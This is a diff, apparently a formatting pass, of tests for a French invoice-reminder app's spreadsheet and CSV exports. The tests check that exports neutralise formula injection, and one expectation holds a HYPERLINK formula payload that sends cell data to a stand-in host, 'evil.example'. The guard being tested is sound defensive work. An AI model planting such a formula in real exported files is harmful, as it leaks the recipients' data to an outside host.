@@ -4,7 +4,14 @@ import { freshDb } from '../helpers/db';
 import { makeContact, makeDebtor, makeInvoice, makeOrganisation, makeUser, TEST_PASSWORD } from '../helpers/factories';
 import { loggedIn } from '../helpers/app';
 import { eq } from 'drizzle-orm';
-import { deliveries, invoices, organisations, reminderInvoices, reminderRecipients, reminders } from '../../src/lib/server/db/schema';
+import {
+	deliveries,
+	invoices,
+	organisations,
+	reminderInvoices,
+	reminderRecipients,
+	reminders
+} from '../../src/lib/server/db/schema';
 import type { Db } from '../../src/lib/server/db/types';
 import { reminderWorkbook } from '../../src/lib/server/exports/workbook';
 import { toCsv } from '../../src/lib/server/exports/csv';
@@ -12,7 +19,6 @@ import { toXlsx } from '../../src/lib/server/exports/xlsx';
 import { dataSheet, historySheet, listHistory } from '../../src/lib/server/exports/tables';
 import { runPass } from '../../src/lib/server/delivery/scheduler';
 import { settleReminders } from '../../src/lib/server/delivery/settle';
-
 
 let db: Db;
 let org: { id: string };
@@ -32,8 +38,17 @@ async function sentReminder(debtorId: string, contactId: string, invoiceIds: str
 		})
 		.returning();
 	await db.insert(reminderRecipients).values({ reminderId: reminder.id, contactId, channels: ['email'] });
-	await db.insert(reminderInvoices).values(invoiceIds.map((invoiceId) => ({ reminderId: reminder.id, invoiceId, levelAtSend: 1 })));
-	await db.insert(deliveries).values({ organisationId: org.id, reminderId: reminder.id, contactId, channel: 'email', status, sentAt: new Date('2026-11-02T09:00:00Z') });
+	await db
+		.insert(reminderInvoices)
+		.values(invoiceIds.map((invoiceId) => ({ reminderId: reminder.id, invoiceId, levelAtSend: 1 })));
+	await db.insert(deliveries).values({
+		organisationId: org.id,
+		reminderId: reminder.id,
+		contactId,
+		channel: 'email',
+		status,
+		sentAt: new Date('2026-11-02T09:00:00Z')
+	});
 }
 
 async function sheetRows(buffer: Buffer) {
@@ -47,9 +62,24 @@ beforeEach(async () => {
 	org = await makeOrganisation(db);
 	const other = await makeOrganisation(db, 'Autre');
 	const evil = await makeDebtor(db, org.id, PAYLOAD);
-	const contact = await makeContact(db, org.id, evil.id, { email: 'evil@example.fr', firstName: '+33 Anne', lastName: '@Dupont', mobilePhone: '+33612092458' });
-	const a = await makeInvoice(db, org.id, evil.id, { number: 'F-1', amountCents: 10000, paidCents: 2500, reminderLevel: 1 });
-	const b = await makeInvoice(db, org.id, evil.id, { number: 'F-2', amountCents: 5000, paidCents: 5000, reminderLevel: 1 });
+	const contact = await makeContact(db, org.id, evil.id, {
+		email: 'evil@example.fr',
+		firstName: '+33 Anne',
+		lastName: '@Dupont',
+		mobilePhone: '+33612092458'
+	});
+	const a = await makeInvoice(db, org.id, evil.id, {
+		number: 'F-1',
+		amountCents: 10000,
+		paidCents: 2500,
+		reminderLevel: 1
+	});
+	const b = await makeInvoice(db, org.id, evil.id, {
+		number: 'F-2',
+		amountCents: 5000,
+		paidCents: 5000,
+		reminderLevel: 1
+	});
 	await sentReminder(evil.id, contact.id, [a.id, b.id], 'bounced');
 	const orphan = await makeDebtor(db, org.id, 'Sans Destinataire');
 	await makeContact(db, org.id, orphan.id, { role: 'garant' });
@@ -62,18 +92,55 @@ describe('the reminder workbook', () => {
 		const workbook = await sheetRows(await reminderWorkbook(db, org.id));
 		expect(workbook.worksheets.map((w) => w.name)).toEqual(['Relance', 'Facture_du', 'No_destinataire']);
 		const values = (name: string) =>
-			workbook.getWorksheet(name)!.getSheetValues().slice(1).map((row) => (row as ExcelJS.CellValue[]).slice(1));
+			workbook
+				.getWorksheet(name)!
+				.getSheetValues()
+				.slice(1)
+				.map((row) => (row as ExcelJS.CellValue[]).slice(1));
 
 		const history = values('Relance');
-		expect(history[0]).toEqual(['Date', 'Compte', 'Débiteur', 'Relance', 'Destinataire', 'Adresse', 'Canal', 'Résultat', 'Niveau', 'Facture', "Date d'émission", 'Échéance', 'Montant', 'Payé', 'Reste dû']);
+		expect(history[0]).toEqual([
+			'Date',
+			'Compte',
+			'Débiteur',
+			'Relance',
+			'Destinataire',
+			'Adresse',
+			'Canal',
+			'Résultat',
+			'Niveau',
+			'Facture',
+			"Date d'émission",
+			'Échéance',
+			'Montant',
+			'Payé',
+			'Reste dû'
+		]);
 		expect(history).toHaveLength(3);
-		expect(history[1].slice(3, 10)).toEqual(['Première relance', 'Mme +33 Anne @Dupont', 'evil@example.fr', 'E-mail', 'Rejeté', '1', 'F-1']);
+		expect(history[1].slice(3, 10)).toEqual([
+			'Première relance',
+			'Mme +33 Anne @Dupont',
+			'evil@example.fr',
+			'E-mail',
+			'Rejeté',
+			'1',
+			'F-1'
+		]);
 		expect(history[1].slice(12)).toEqual([100, 25, 75]);
 		expect(history[2][9]).toBe('F-2');
 
 		const unpaid = values('Facture_du');
-		expect(unpaid.slice(1).map((r) => r[2]).sort()).toEqual(['F-1', 'F-3']);
-		expect(values('No_destinataire').slice(1).map((r) => r[1])).toEqual(['Sans Destinataire']);
+		expect(
+			unpaid
+				.slice(1)
+				.map((r) => r[2])
+				.sort()
+		).toEqual(['F-1', 'F-3']);
+		expect(
+			values('No_destinataire')
+				.slice(1)
+				.map((r) => r[1])
+		).toEqual(['Sans Destinataire']);
 	});
 
 	it('writes plain values in a workbook, never a formula, and keeps the apostrophe guard for CSV only', async () => {
@@ -86,11 +153,19 @@ describe('the reminder workbook', () => {
 		expect(cell.value).toBe(PAYLOAD);
 
 		const contactsBook = await sheetRows(await toXlsx([await dataSheet(db, org.id, 'contacts')]));
-		const contactRows = contactsBook.worksheets[0].getSheetValues().slice(2).map((r) => (r as ExcelJS.CellValue[]).slice(1));
+		const contactRows = contactsBook.worksheets[0]
+			.getSheetValues()
+			.slice(2)
+			.map((r) => (r as ExcelJS.CellValue[]).slice(1));
 		const evil = contactRows.find((r) => r[5] === 'evil@example.fr')!;
 		expect(evil.slice(3, 7)).toEqual(['+33 Anne', '@Dupont', 'evil@example.fr', '+33612092458']);
 		const debtorsBook = await sheetRows(await toXlsx([await dataSheet(db, org.id, 'debtors')]));
-		expect(debtorsBook.worksheets[0].getSheetValues().slice(2).map((r) => (r as ExcelJS.CellValue[])[2])).toContain(PAYLOAD);
+		expect(
+			debtorsBook.worksheets[0]
+				.getSheetValues()
+				.slice(2)
+				.map((r) => (r as ExcelJS.CellValue[])[2])
+		).toContain(PAYLOAD);
 
 		const csv = toCsv(await dataSheet(db, org.id, 'debtors')).toString('utf8');
 		expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";`);
@@ -109,20 +184,47 @@ describe('the level of each invoice in the history', () => {
 		const send = async (shortDescription: string, sentAt: string) => {
 			const [reminder] = await db
 				.insert(reminders)
-				.values({ organisationId: org.id, debtorId: debtor.id, status: 'scheduled', sendDate: '2026-11-01', immediate: true, shortDescription, requiresValidation: false, content: { emailSubject: 'R', emailHeader: '', emailBody: 'x', emailFooter: '', smsText: '', letterBody: '' } })
+				.values({
+					organisationId: org.id,
+					debtorId: debtor.id,
+					status: 'scheduled',
+					sendDate: '2026-11-01',
+					immediate: true,
+					shortDescription,
+					requiresValidation: false,
+					content: { emailSubject: 'R', emailHeader: '', emailBody: 'x', emailFooter: '', smsText: '', letterBody: '' }
+				})
 				.returning();
-			await db.insert(reminderRecipients).values({ reminderId: reminder.id, contactId: contact.id, channels: ['email'] });
-			await db.insert(reminderInvoices).values([owed.id, paid.id].map((invoiceId) => ({ reminderId: reminder.id, invoiceId })));
-			await runPass(db, { trigger: 'manual', organisationId: org.id, reminderIds: [reminder.id], enqueue: async () => {} });
+			await db
+				.insert(reminderRecipients)
+				.values({ reminderId: reminder.id, contactId: contact.id, channels: ['email'] });
+			await db
+				.insert(reminderInvoices)
+				.values([owed.id, paid.id].map((invoiceId) => ({ reminderId: reminder.id, invoiceId })));
+			await runPass(db, {
+				trigger: 'manual',
+				organisationId: org.id,
+				reminderIds: [reminder.id],
+				enqueue: async () => {}
+			});
 			// The provider took it: the worker's bookkeeping, then the settling it triggers.
-			await db.update(deliveries).set({ status: 'sent', sentAt: new Date(sentAt) }).where(eq(deliveries.reminderId, reminder.id));
+			await db
+				.update(deliveries)
+				.set({ status: 'sent', sentAt: new Date(sentAt) })
+				.where(eq(deliveries.reminderId, reminder.id));
 			await db.transaction((tx) => settleReminders(tx, [reminder.id]));
 		};
 		await send('Première', '2026-11-03T09:00:00Z');
 		await send('Deuxième', '2026-11-10T09:00:00Z');
 		expect((await db.select().from(invoices).where(eq(invoices.id, owed.id)))[0].reminderLevel).toBe(2);
 
-		const sheet = await historySheet(db, org.id, {}, (o) => o, (c) => c);
+		const sheet = await historySheet(
+			db,
+			org.id,
+			{},
+			(o) => o,
+			(c) => c
+		);
 		const levels = sheet.rows.filter((r) => r[2] === 'Deux relances').map((r) => [r[3], r[9], r[8]]);
 		expect(levels).toEqual([
 			['Deuxième', 'G-1', '2'],
@@ -145,11 +247,32 @@ describe('the date of each line in the history', () => {
 		const contact = await makeContact(db, org.id, debtor.id, { email: 'fuseau@example.fr' });
 		const [reminder] = await db
 			.insert(reminders)
-			.values({ organisationId: org.id, debtorId: debtor.id, status: 'sent', sendDate: '2026-11-02', shortDescription: 'Tard le soir', requiresValidation: false, content: { emailSubject: 'R', emailHeader: '', emailBody: 'x', emailFooter: '', smsText: '', letterBody: '' } })
+			.values({
+				organisationId: org.id,
+				debtorId: debtor.id,
+				status: 'sent',
+				sendDate: '2026-11-02',
+				shortDescription: 'Tard le soir',
+				requiresValidation: false,
+				content: { emailSubject: 'R', emailHeader: '', emailBody: 'x', emailFooter: '', smsText: '', letterBody: '' }
+			})
 			.returning();
 		// 02:00 in Paris on the 3rd is still 20:00 on the 2nd in New York.
-		await db.insert(deliveries).values({ organisationId: org.id, reminderId: reminder.id, contactId: contact.id, channel: 'email', status: 'sent', sentAt: new Date('2026-11-03T01:00:00Z') });
-		const sheet = await historySheet(db, org.id, {}, (o) => o, (c) => c);
+		await db.insert(deliveries).values({
+			organisationId: org.id,
+			reminderId: reminder.id,
+			contactId: contact.id,
+			channel: 'email',
+			status: 'sent',
+			sentAt: new Date('2026-11-03T01:00:00Z')
+		});
+		const sheet = await historySheet(
+			db,
+			org.id,
+			{},
+			(o) => o,
+			(c) => c
+		);
 		const line = sheet.rows.find((r) => r[2] === 'Fuseau')!;
 		expect(line[0]).toEqual({ date: '2026-11-02' });
 	});
